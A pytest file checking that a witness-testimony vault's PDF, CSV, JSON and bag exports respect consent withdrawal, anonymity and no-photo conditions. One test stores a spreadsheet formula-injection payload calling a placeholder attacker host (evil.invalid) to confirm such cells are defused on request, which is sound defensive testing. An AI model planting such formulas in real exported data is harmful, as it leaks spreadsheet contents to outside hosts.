"""Exports honour consent (docs/exports.md, "Consent and purpose"): a
testimony whose witness withdrew the export's purpose leaves nothing of
itself in DEST (PDF text and attachments, CSV, JSON, bag), only its id and
the reason; consent records travel in every format; CSV cells that a
spreadsheet would run as formulas are defused only when asked."""

from __future__ import annotations

import csv
import json
import secrets
import subprocess
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from db import api
from db.api import Consent, Incident, Person
from sync.exports.bag import export_bag
from sync.exports.errors import ExportRefused
from sync.exports.report import export_pdf
from sync.exports.tabular import export_csv, export_json
from tests.canary_helpers import encodings, files_containing
from tests.sync.exports.samples import NARRATIVE, WITNESS_NAME, SampleCase
from tests.sync.exports.test_pdf_report import pdf_text, squeeze
from tests.sync.exports.test_tabular_export import SCHEMA_FILE


def all_four(sample: SampleCase, dest: Path, **options: Any) -> dict[str, Path]:
    vault, case = sample.vault, sample.case_id
    return {
        "pdf": export_pdf(vault, case, dest / "report.pdf", **options).path,
        "csv": export_csv(vault, case, dest / "csv", **options),
        "json": export_json(vault, case, dest / "data.json", **options),
        "bag": export_bag(vault, case, dest / "bag", **options).path,
    }


def attachments(pdf: Path, out: Path) -> str:
    out.mkdir()
    subprocess.run(["pdfdetach", "-saveall", "-o", str(out), str(pdf)], check=True)
    return "".join(p.read_text(encoding="utf-8") for p in out.iterdir())


@pytest.fixture
def withdrawn(sample_case: SampleCase, tmp_path: Path) -> dict[str, str]:
    """A second testimony whose witness agreed to prosecution and the NGO's
    internal use, then withdrew prosecution; a recording of it linked as
    its evidence. A canary in its narrative, title, witness and recording."""
    vault, case = sample_case.vault, sample_case.case_id
    canary = f"Канарка-{secrets.token_hex(4)}"
    witness = vault.persons.create(Person(case_id=case, name=f"Марія {canary}", roles=["witness"]))
    testimony = vault.testimonies.create(
        api.Testimony(
            case_id=case,
            title=f"Свідчення {canary}",
            witness_id=witness.id,
            narrative=f"Я бачила {canary} біля мосту.",
            consent_scope="prosecution",  # the legacy choice: a consent record supersedes it
        )
    )
    consent = vault.consents.record(
        Consent(
            case_id=case,
            testimony_id=testimony.id,
            scopes=["ngo-internal", "prosecution"],
            conditions=f"не показувати обличчя {canary}",
        )
    )
    vault.consents.withdraw(consent.id, ["prosecution"], on="2026-11-01")
    source = tmp_path / "recording.txt"
    source.write_text(f"transcript {canary}\n" * 20, encoding="utf-8")
    item = vault.evidence.ingest(source, case).item
    vault.evidence_links.link(item.id, testimony.id)
    source.unlink()
    # A portrait of the witness, linked to the person only.
    portrait = tmp_path / "portrait.txt"
    portrait.write_text(f"portrait of {canary}\n", encoding="utf-8")
    portrait_item = vault.evidence.ingest(portrait, case).item
    vault.evidence_links.link(portrait_item.id, witness.id)
    portrait.unlink()
    return {
        "canary": canary,
        "testimony": testimony.id,
        "witness": witness.id,
        "item": item.id,
        "portrait": portrait_item.id,
    }


def test_a_withdrawn_prosecution_scope_leaves_nothing_of_the_testimony_in_dest(
    sample_case: SampleCase, withdrawn: dict[str, str], tmp_path: Path
):
    dest = tmp_path / "usb"
    dest.mkdir()
    paths = all_four(sample_case, dest, purpose="prosecution")
    canary = withdrawn["canary"]
    assert files_containing([dest], encodings(canary)) == []
    text = squeeze(pdf_text(paths["pdf"]))
    assert canary not in text and canary not in attachments(paths["pdf"], tmp_path / "attached")
    # What is withheld is said, by id and reason, in every form.
    assert f"testimony {withdrawn['testimony']} (consent-withdrawn)" in text
    assert "Purpose of this export: prosecution" in text
    doc = json.loads(paths["json"].read_text(encoding="utf-8"))
    assert doc["purpose"] == "prosecution"
    assert {(w["type"], w["id"], w["reason"]) for w in doc["withheld"]} == {
        ("testimony", withdrawn["testimony"], "consent-withdrawn"),
        ("evidence", withdrawn["item"], "of-withheld-testimony"),
        ("evidence", withdrawn["portrait"], "of-withheld-testimony"),
        ("person", withdrawn["witness"], "of-withheld-testimony"),
        *(("link", w["id"], "of-withheld-testimony") for w in doc["withheld"] if w["type"] == "link"),
    }
    assert len([w for w in doc["withheld"] if w["type"] == "link"]) == 2
    with (paths["csv"] / "withheld.csv").open(encoding="utf-8", newline="") as handle:
        assert {r["id"] for r in csv.DictReader(handle)} == {w["id"] for w in doc["withheld"]}
    manifest = json.loads((paths["bag"] / "data" / "export-manifest.json").read_text(encoding="utf-8"))
    assert manifest["purpose"] == "prosecution" and manifest["withheld"] == doc["withheld"]
    info = (paths["bag"] / "bag-info.txt").read_text(encoding="utf-8")
    assert "Fieldvault-Export-Purpose: prosecution" in info and "1 testimony (consent-withdrawn)" in info
    assert not (paths["bag"] / "data" / "evidence" / withdrawn["item"]).exists()
    # The testimony that keeps its prosecution consent is there, with its consent.
    assert NARRATIVE in text and "agreed:theNGOinternally,prosecution" in "".join(text.split())
    assert doc["testimonies"][0]["narrative"] == NARRATIVE and len(doc["consents"]) == 1


def test_the_same_testimony_goes_into_an_export_for_a_scope_still_agreed(
    sample_case: SampleCase, withdrawn: dict[str, str], tmp_path: Path
):
    """The test above has teeth: for the NGO's own use the canary is there,
    with the withdrawal shown beside the testimony."""
    dest = tmp_path / "usb"
    dest.mkdir()
    paths = all_four(sample_case, dest, purpose="ngo-internal")
    text = squeeze(pdf_text(paths["pdf"]))
    assert withdrawn["canary"] in text
    # Lines wrap at any character: compared without white space.
    assert "agreed:theNGOinternally;withdrawn:prosecutionon2026-11-01" in "".join(text.split())
    found = files_containing([dest], [withdrawn["canary"].encode("utf-8")])
    assert any(str(paths["bag"]) in hit for hit in found) and any(str(paths["csv"]) in hit for hit in found)
    doc = json.loads(paths["json"].read_text(encoding="utf-8"))
    assert doc["withheld"] == []
    mine = next(c for c in doc["consents"] if c["testimony_id"] == withdrawn["testimony"])
    assert mine["scopes"] == ["ngo-internal"] and mine["withdrawn_scopes"] == ["prosecution"]
    jsonschema.Draft202012Validator(json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))).validate(doc)


def test_without_a_consent_record_the_legacy_choice_decides(sample_case: SampleCase, tmp_path: Path):
    vault, case = sample_case.vault, sample_case.case_id
    legacy = vault.testimonies.create(api.Testimony(case_id=case, title="old", consent_scope="prosecution"))
    unknown = vault.testimonies.create(api.Testimony(case_id=case, title="older"))

    def withheld(purpose: str, name: str) -> dict[str, str]:
        doc = json.loads(
            export_json(vault, case, tmp_path / name, purpose=purpose).read_text(encoding="utf-8")
        )
        return {w["id"]: w["reason"] for w in doc["withheld"] if w["type"] == "testimony"}

    assert withheld("prosecution", "p.json") == {unknown.id: "no-consent-recorded"}
    assert withheld("ngo-internal", "n.json") == {
        legacy.id: "consent-not-given",
        unknown.id: "no-consent-recorded",
    }


def test_public_anonymised_pseudonymises_every_witness(sample_case: SampleCase, tmp_path: Path):
    vault, case = sample_case.vault, sample_case.case_id
    consent = vault.consents.for_testimony(vault.testimonies.list(case)[0].id)[0]
    vault.consents.record(
        Consent(case_id=case, testimony_id=consent.testimony_id, scopes=["public-anonymised"])
    )
    path = export_json(vault, case, tmp_path / "public.json", purpose="public-anonymised")
    doc = json.loads(path.read_text(encoding="utf-8"))
    assert doc["pseudonymised"] is True and doc["testimonies"][0]["narrative"] == NARRATIVE
    assert WITNESS_NAME not in path.read_text(encoding="utf-8")


def test_an_unknown_purpose_is_refused_and_writes_nothing(sample_case: SampleCase, tmp_path: Path):
    dest = tmp_path / "usb"
    dest.mkdir()
    for export in (export_json, export_csv, export_pdf, export_bag):
        with pytest.raises(ExportRefused) as refused:
            export(sample_case.vault, sample_case.case_id, dest, purpose="court")
        assert refused.value.code == "export-purpose-unknown" and refused.value.params == {"purpose": "court"}
    assert list(dest.iterdir()) == []


def read_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_formula_cells_are_exact_by_default_and_defused_when_asked(sample_case: SampleCase, tmp_path: Path):
    vault, case = sample_case.vault, sample_case.case_id
    formula = '=HYPERLINK("http://evil.invalid/?"&A1,"click")'
    vault.incidents.create(
        Incident(
            case_id=case,
            title=formula,
            notes="@SUM(1+1)",
            description="+380",
            latitude=-33.5,
            longitude=-70.6,
        )
    )
    exact = read_rows(export_csv(vault, case, tmp_path / "exact") / "incidents.csv")
    safe_folder = export_csv(vault, case, tmp_path / "safe", spreadsheet_safe=True)
    safe = read_rows(safe_folder / "incidents.csv")
    uwazi = read_rows(
        export_csv(vault, case, tmp_path / "uwazi", uwazi=True, spreadsheet_safe=True) / "incidents.csv"
    )
    row = next(r for r in exact if r["title"] == formula)
    assert (row["notes"], row["description"], row["latitude"]) == ("@SUM(1+1)", "+380", "-33.5")
    row = next(r for r in safe if r["title"] == "'" + formula)
    # Text defused; numbers stay numbers.
    assert (row["notes"], row["description"], row["latitude"]) == ("'@SUM(1+1)", "'+380", "-33.5")
    assert any(r["title"] == "'" + formula for r in uwazi)
    assert not [r for r in safe + uwazi for v in r.values() if v.startswith(("=", "+", "@"))]
    assert read_rows(safe_folder / "export.csv")[0]["spreadsheet_safe"] == "true"
    doc = json.loads(export_json(vault, case, tmp_path / "court.json").read_text(encoding="utf-8"))
    assert formula in {i["title"] for i in doc["incidents"]}  # the court's copy is exact


def test_a_witness_who_asked_for_anonymity_is_by_pseudonym_in_every_export(
    sample_case: SampleCase, tmp_path: Path
):
    vault, case = sample_case.vault, sample_case.case_id
    shy = vault.persons.create(
        Person(case_id=case, name="Оксана Шевчук", roles=["witness"], sensitive={"phone": "+380 50"})
    )
    testimony = vault.testimonies.create(
        api.Testimony(case_id=case, title="t2", witness_id=shy.id, narrative="Текст.")
    )
    vault.consents.record(
        Consent(case_id=case, testimony_id=testimony.id, scopes=["ngo-internal"], anonymity=True)
    )
    dest = tmp_path / "usb"
    dest.mkdir()
    paths = all_four(sample_case, dest)
    assert files_containing([dest], encodings("Оксана Шевчук") + encodings("+380 50")) == []
    assert "Оксана Шевчук" not in pdf_text(paths["pdf"]) and "Witness" in pdf_text(paths["pdf"])
    doc = json.loads(paths["json"].read_text(encoding="utf-8"))
    assert WITNESS_NAME in {p["name"] for p in doc["persons"]}  # no condition: named as before
    assert doc["pseudonymised"] is False and "Текст." in {t["narrative"] for t in doc["testimonies"]}


def test_no_photos_withholds_the_pictures_linked_to_the_testimony(sample_case: SampleCase, tmp_path: Path):
    vault, case = sample_case.vault, sample_case.case_id
    testimony = vault.testimonies.list(case)[0]
    photo, recording = sample_case.item_ids
    for item in (photo, recording):
        vault.evidence_links.link(item, testimony.id)
    vault.consents.record(
        Consent(case_id=case, testimony_id=testimony.id, scopes=["prosecution"], no_photos=True)
    )
    bag = export_bag(vault, case, tmp_path / "bag", purpose="prosecution").path
    assert (
        not (bag / "data" / "evidence" / photo).exists() and (bag / "data" / "evidence" / recording).is_dir()
    )
    manifest = json.loads((bag / "data" / "export-manifest.json").read_text(encoding="utf-8"))
    assert {"type": "evidence", "id": photo, "reason": "consent-no-photos"} in manifest["withheld"]
    assert [e["id"] for e in manifest["evidence"]] == [recording]
    doc = json.loads((bag / "data" / "case.json").read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator(json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))).validate(doc)
